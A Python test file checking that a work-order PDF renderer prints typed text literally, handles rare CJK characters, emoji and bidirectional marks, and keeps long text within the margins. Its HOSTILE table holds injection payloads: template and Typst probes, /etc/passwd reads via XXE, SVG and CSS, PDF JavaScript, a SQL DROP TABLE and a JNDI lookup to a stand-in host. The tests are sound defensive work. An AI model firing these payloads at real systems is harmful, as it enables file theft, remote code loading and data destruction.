"""T11: what anybody typed stands on the paper as he typed it, runs nowhere, reads nothing and breaks nothing."""

from __future__ import annotations

import unicodedata
from typing import Any

import pypdfium2

from api import models
from api.kit.db import Database
from api.paper.documents import rendering
from tests.paper.steps import Papers, judged, pages_of, spoken, text_of, tight
from tests.work.steps import Desk, put

CANARY = "root:x:0:0"
HOSTILE = {
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% debug %}",
    "typst read": '#read("/etc/passwd") #read("main.typ")',
    "typst import": '#import "@preview/cetz:0.3.0": canvas',
    "typst eval": '#eval("1+1") #sys.inputs #panic("x") #plugin("x.wasm")',
    "typst markup": "= 标题 *粗* _斜_ `码` $x^2$ @ref <label> \\ #pagebreak() ]]] )) // /* ~",
    "html": '<img src="file:///etc/passwd"> <script>alert(1)</script> <iframe src=//x.test>',
    "css": "@import url(file:///etc/passwd); } body { display: none }",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "pdf": ") Tj ET endstream endobj /OpenAction << /S /JavaScript /JS (app.alert(1)) >> %%EOF",
    "sql": "'; DROP TABLE document; --",
    "quotes": "\"'\u201c\u201d\u2018\u2019 \\u0041 \\n &amp; %00 %s {0} ${jndi:ldap://x.test/a}",
}
RARE = "喆𬭎㛃𠮷镕堃淼犇骉䶮垚𬱖"
"""Characters of real names: of the standard list, of extension A and E, and of extension B (𠮷)."""


def typed(order: dict[str, Any], db: Database, text: str) -> dict[str, Any]:
    """The order with this text in every field that somebody types freely."""
    prose = dict.fromkeys(
        ("note", "contact_note", "diagnosis", "plan", "work_done", "test_result", "problem", "signature_reason"), text
    )
    put(db, models.work_orders.WorkOrder, order["id"], subject=text[:120], **prose)
    put(db, models.service_requests.ServiceRequest, order["case"]["id"], description=text)
    put(db, models.customers.Customer, order["customer"]["id"], name=text[:120])
    put(db, models.customers.Site, order["site"]["id"], address=text[:200], access_note=text)
    put(db, models.customers.Contact, order["contact"]["id"], name=text[:80])
    return order


def test_t11_what_was_typed_stands_there_literally(desk: Desk, papers: Papers, db: Database) -> None:
    order = desk.to("record_in")
    for name, text in HOSTILE.items():
        typed(order, db, text)
        for kind in ("on_site_dispatch_order", "repair_work_order"):
            pdf = papers.pdf(papers.print(kind, order["id"], phone="masked"))
            assert judged(pdf) == [], name
            said = tight(text_of(pdf))
            assert said.count(tight(text)) >= 3, f"{name} on the {kind}: {said}"
            assert CANARY not in said, name


def test_t11_rare_characters_of_names_are_there(desk: Desk, papers: Papers, db: Database) -> None:
    pdf = papers.pdf(papers.print("repair_work_order", typed(desk.open(), db, RARE)["id"], copy="customer"))
    assert text_of(pdf).count(RARE) >= 5
    assert judged(pdf) == []


def test_t11_a_character_that_no_face_has_is_a_box_that_still_says_what_it_is(
    desk: Desk, papers: Papers, db: Database
) -> None:
    """Emoji, and ideographs beyond the faces: seen as a box, kept in the text of the PDF."""
    pdf = papers.pdf(papers.print("repair_work_order", typed(desk.open(), db, "设备😀冒烟🔥 𪚥")["id"]))
    assert judged(pdf) == []
    assert {"😀", "🔥", "𪚥"} <= set(spoken(pdf) + text_of(pdf))
    assert "𪚥" in spoken(pdf)


def test_t11_a_mark_that_turns_the_reading_is_shown_and_turns_nothing(desk: Desk, papers: Papers, db: Database) -> None:
    order = typed(desk.open(), db, "应付\u202e00.001\u202c 元")
    said = tight(papers.text("repair_work_order", order["id"]))
    assert "应付⟨U+202E⟩00.001⟨U+202C⟩元" in said
    assert order["number"] in said


LONG = {
    "word": "W" * 120, "long word": "x" * 2000, "long text": "长" * 2000, "many lines": "a\n" * 900,
    "stacked marks": "e\u0301\u0302\u0303\u0304" * 300, "right to left": "نص عربي " * 40,
}  # fmt: skip


def test_t11_nothing_leaves_the_page(desk: Desk, papers: Papers, db: Database) -> None:
    """However long: every character stays within the margins, and the foot stands on every page."""
    order = desk.open()
    for name, text in LONG.items():
        pdf = papers.pdf(papers.print("repair_work_order", typed(order, db, text)["id"]))
        assert judged(pdf) == [], name
        pages = pages_of(pdf)
        assert all(f"第{n}页共{len(pages)}页" in tight(page) for n, page in enumerate(pages, start=1)), name
        assert outside(pdf) == [], name


def outside(pdf: bytes) -> list[str]:
    """Characters that reach into the margin of 17 mm, or beyond the paper."""
    document, wrong = pypdfium2.PdfDocument(pdf), []
    for page in document:
        read, (width, height) = page.get_textpage(), page.get_size()
        for index in range(read.count_chars()):
            left, bottom, right, top = read.get_charbox(index)
            if not (0 <= left <= right <= width - 47 and 0 <= bottom <= top <= height):
                wrong.append(f"{index} at {left}…{right}, {bottom}…{top}")
    document.close()
    return wrong[:3]


def test_a_place_to_break_is_put_into_long_words_only() -> None:
    said = rendering.inert({"a": ["x" * 50, "北京市" * 40, "WQ51-2509-002245"], "b": 7, "c": None})
    assert said["a"][0].replace("\u200b", "") == "x" * 50
    assert max(map(len, said["a"][0].split("\u200b"))) <= rendering.LONGEST
    assert said["a"][1:] == ["北京市" * 40, "WQ51-2509-002245"]
    assert (said["b"], said["c"]) == (7, None)


def test_every_mark_that_turns_text_is_known() -> None:
    """All that Unicode calls a control of direction is made visible, whatever is added to it."""
    turning = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    marks = [chr(n) for n in range(0x20, 0x2070) if unicodedata.bidirectional(chr(n)) in turning]
    assert len(marks) == 9
    assert all(rendering.inert(mark) == f"⟨U+{ord(mark):04X}⟩" for mark in marks)
